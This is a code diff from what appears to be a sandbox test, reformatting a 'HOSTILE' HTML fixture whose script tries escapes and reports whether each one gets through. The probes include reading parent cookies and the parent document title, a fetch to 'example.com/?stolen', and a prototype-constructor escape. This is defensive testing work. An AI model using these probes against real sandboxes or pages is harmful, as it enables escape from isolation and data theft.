@@ -19,7 +19,13 @@ const HOSTILE = `<!doctype html>
   </script>
   <script id="2" type="module">
     const late = () => new Promise((_, fail) => setTimeout(fail, 3000));
-    const attempt = async (name, run) => { try { return name + ': ' + (await Promise.race([run(), late()])); } catch { return name + ': stopped'; } };
+    const attempt = async (name, run) => {
+      try {
+        return name + ': ' + (await Promise.race([run(), late()]));
+      } catch {
+        return name + ': stopped';
+      }
+    };
     const attempts = await Promise.all([
       attempt('page', () => { window.parent.parent.hostile = 1; return 'reached'; }),
       attempt('document', () => window.parent.document.title),
@@ -28,8 +34,17 @@ const HOSTILE = `<!doctype html>
       attempt('cookies', () => document.cookie + 'reached'),
       attempt('network', () => fetch('https://example.com/?stolen').then(() => 'reached')),
       attempt('own host', () => fetch('./models/').then(() => 'reached')),
-      attempt('image', () => new Promise((done, fail) => { const i = new Image(); i.onload = () => done('reached'); i.onerror = fail; i.src = 'https://example.com/a.png'; })),
-      attempt('worker', () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => done('reached'); w.onerror = fail; })),
+      attempt('image', () => new Promise((done, fail) => {
+        const i = new Image();
+        i.onload = () => done('reached');
+        i.onerror = fail;
+        i.src = 'https://example.com/a.png';
+      })),
+      attempt('worker', () => new Promise((done, fail) => {
+        const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
+        w.onmessage = () => done('reached');
+        w.onerror = fail;
+      })),
       attempt('window', () => (window.open('https://example.com/') ? 'reached' : Promise.reject())),
       attempt('keys', () => lab.keys()),
       attempt('prototype', () => lab.constructor.constructor('return parent.document.title')())
